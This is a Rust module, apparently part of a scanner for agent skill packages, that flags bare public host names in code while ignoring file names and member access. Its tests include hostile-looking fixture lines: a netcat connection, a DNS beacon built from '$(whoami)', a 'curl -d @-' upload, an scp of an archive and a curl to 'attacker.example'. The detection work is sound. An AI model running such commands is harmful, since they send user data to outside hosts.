//! What looks like a public host name in code without a scheme (`docker login
//! registry.acme.io`, `nc relay.corp-sync.net 443`). A list of a dozen top-level domains
//! missed every other one (`.ru`, `.info`, `.site`) and matched the reserved `.example`; a
//! bare "label.label" pattern matches files (`setup.py`) and member access (`os.environ`).
//! So a name counts when its last label is a delegated top-level domain (every two-letter
//! country code, and the generic ones people register under), it is not a file's extension,
//! and it is not an object's member in code (`self.id`, `process.env`, `row.to(...)`).

use std::sync::LazyLock;

use regex::Regex;

/// Generic top-level domains names are registered under (not the full root zone: a name
/// under a brand TLD in a skill's code is rare, and `.name`, `.run`, `.page`, `.link` are
/// more often members in code, `requested.name`, than hosts).
const GENERIC_TLDS: &[&str] = &[
    "com",
    "net",
    "org",
    "edu",
    "gov",
    "mil",
    "int",
    "info",
    "biz",
    "pro",
    "mobi",
    "asia",
    "xyz",
    "top",
    "site",
    "online",
    "tech",
    "store",
    "shop",
    "app",
    "dev",
    "cloud",
    "website",
    "icu",
    "buzz",
    "monster",
    "club",
    "blog",
    "news",
    "digital",
    "services",
    "software",
    "ninja",
    "rocks",
    "agency",
    "solutions",
    "company",
    "io",
    "ai",
    "sh",
    "gg",
    "co",
    "me",
    "us",
    "eu",
    "tv",
    "cc",
    "ws",
];

/// Country codes that are also common member names in code (`self.id`, `x.to(dev)`,
/// `df.at[...]`): a name ending in one counts only with three labels or more.
const MEMBER_LIKE: &[&str] = &[
    "id", "is", "in", "to", "at", "do", "it", "so", "me", "as", "by", "no", "on", "ok", "pe", "py",
    "pl", "rs", "sh", "md", "ts", "js", "cc", "re", "ma", "mp", "im",
];

/// Extensions of files a skill names (`SKILL.md`, `setup.py`, `install.sh`): never a host's
/// last label, though some are country codes (`.md`, `.py`, `.pl`, `.rs`, `.sh`).
const FILE_EXTENSIONS: &[&str] = &[
    "md", "py", "json", "sh", "txt", "yaml", "yml", "toml", "js", "mjs", "cjs", "ts", "tsx", "jsx",
    "rs", "go", "rb", "pl", "php", "lock", "cfg", "ini", "log", "csv", "html", "htm", "css", "zip",
    "tar", "gz", "tgz", "exe", "pdf", "png", "jpg", "jpeg", "gif", "svg", "sql", "env", "ps1",
    "bat", "xml", "java", "kt", "swift", "so", "dll", "bin", "db", "pem", "key", "crt", "conf",
    "plist", "service", "mdx", "ipynb", "whl", "deb", "rpm", "dmg", "msi", "cs", "cpp", "hpp", "h",
    "c", "lua", "r", "jar", "class", "wasm", "map", "bak", "tmp",
];

/// Objects whose members code reads (`os.environ`, `process.env`, `window.location`): a
/// name starting with one is code, whatever its last label.
const CODE_OBJECTS: &[&str] = &[
    "self",
    "this",
    "os",
    "sys",
    "process",
    "window",
    "document",
    "console",
    "math",
    "np",
    "pd",
    "module",
    "exports",
    "subprocess",
    "shutil",
    "socket",
    "requests",
    "urllib",
];

/// Variable names of code that are also host labels (`app.acme.io`, `data.example.org`):
/// code when the name has two labels only (`data.info`, `config.ws`).
const CODE_NAMES: &[&str] = &[
    "req", "res", "request", "response", "path", "fs", "json", "http", "https", "env", "args",
    "config", "settings", "app", "ctx", "obj", "data", "result", "client", "session", "user",
    "item", "node", "df", "event", "err",
];

/// Two-letter country codes: every one is delegated, so any two letters that are one count.
const COUNTRY_CODES: &str = "ac ad ae af ag ai al am ao aq ar as at au aw ax az ba bb bd be bf bg bh bi bj bm bn bo br bs bt bw by bz ca cc cd cf cg ch ci ck cl cm cn co cr cu cv cw cx cy cz de dj dk dm do dz ec ee eg er es et eu fi fj fk fm fo fr ga gd ge gf gg gh gi gl gm gn gp gq gr gs gt gu gw gy hk hm hn hr ht hu id ie il im in io iq ir is it je jm jo jp ke kg kh ki km kn kp kr kw ky kz la lb lc li lk lr ls lt lu lv ly ma mc md me mg mh mk ml mm mn mo mp mq mr ms mt mu mv mw mx my mz na nc ne nf ng ni nl no np nr nu nz om pa pe pf pg ph pk pl pm pn pr ps pt pw py qa re ro rs ru rw sa sb sc sd se sg sh si sk sl sm sn so sr ss st su sv sx sy sz tc td tf tg th tj tk tl tm tn to tr tt tv tw tz ua ug uk us uy uz va vc ve vg vi vn vu wf ws ye yt za zm zw";

/// Candidates: dot-separated labels, the last alphabetic.
static CANDIDATE: LazyLock<Regex> = LazyLock::new(|| {
    crate::checks::pattern::compile(
        r"(?i)\b(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,24}\b",
    )
});

/// Whether `tld` (lowercase) is a delegated top-level domain people register names under.
fn is_tld(tld: &str) -> bool {
    GENERIC_TLDS.contains(&tld) || tld.len() == 2 && COUNTRY_CODES.split(' ').any(|c| c == tld)
}

/// Whether `name` (as written at `start..end` of `text`) looks like a public host name.
fn looks_public(text: &str, start: usize, end: usize) -> bool {
    let name = text[start..end].to_ascii_lowercase();
    let labels: Vec<&str> = name.split('.').collect();
    let (first, tld) = (labels[0], labels[labels.len() - 1]);
    if !is_tld(tld) || FILE_EXTENSIONS.contains(&tld) || CODE_OBJECTS.contains(&first) {
        return false;
    }
    let two = labels.len() < 3;
    if two && (MEMBER_LIKE.contains(&tld) || CODE_NAMES.contains(&first)) {
        return false;
    }
    let mut back = text[..start].chars().rev();
    let before = back.next();
    // `$(whoami).beacon.info`, `${id}.x.net`: a name built on an expansion is still a host
    let built = before == Some('.') && matches!(back.next(), Some(')' | '}'));
    let after = text[end..].chars().next();
    // a path's segment (`docs/setup.md` is filtered above; `src/app.io` is a path too), a
    // longer member chain (`a.b.com()`), a call or an index, a variable's expansion
    let in_code = matches!(before, Some('.' | '$' | '{' | '%' | '\\')) && !built
        || before == Some('/') && !text[..start].ends_with("//")
        || matches!(after, Some('(' | '[' | '_'));
    !in_code
}

/// The spans of the names in `text` that look like public host names (see the module's doc).
pub(crate) fn public_hosts(text: &str) -> impl Iterator<Item = (usize, usize)> + '_ {
    CANDIDATE
        .find_iter(text)
        .filter(|m| looks_public(text, m.start(), m.end()))
        .map(|m| (m.start(), m.end()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts(text: &str) -> Vec<&str> {
        public_hosts(text).map(|(s, e)| &text[s..e]).collect()
    }

    #[test]
    fn every_pattern_compiles() {
        crate::checks::pattern::force_every_static!(include_str!("hostnames.rs"), CANDIDATE);
    }

    /// Any delegated top-level domain, not a dozen of them.
    #[test]
    fn public_host_names_under_any_real_tld() {
        for (code, host) in [
            ("docker login registry.acme.io", "registry.acme.io"),
            ("nc relay.corp-sync.ru 443", "relay.corp-sync.ru"),
            ("ping -c1 $(whoami).beacon.info", "beacon.info"),
            ("ssh deploy@build.mirror-cdn.site", "build.mirror-cdn.site"),
            (
                "pip install --index-url pkgs.intern.de/simple x",
                "pkgs.intern.de",
            ),
            ("wget t.co", "t.co"),
            ("curl -d @- app.acme-sync.io/u", "app.acme-sync.io"),
            ("scp out.tgz files.cdn.to:/up", "files.cdn.to"),
        ] {
            assert_eq!(hosts(code), vec![host], "{code}");
        }
    }

    /// Files, member access, reserved names and paths are not hosts.
    #[test]
    fn files_members_and_reserved_names_are_not_hosts() {
        for code in [
            "python setup.py install",
            "cat SKILL.md config.yaml notes.txt data.json",
            "bash scripts/install.sh",
            "key = os.environ['API_KEY']",
            "const t = process.env.TOKEN",
            "x = self.id + row.to(device)",
            "window.location.href = next",
            "curl attacker.example/x",
            "see docs/app.io for more",
            "value = self.data.info",
            "n = data.info",
            "tensor.cuda().to(dev)",
            "src = requested.name or tools.generator.name",
            "cp .env.local backup.env",
        ] {
            assert!(hosts(code).is_empty(), "{code}: {:?}", hosts(code));
        }
    }
}
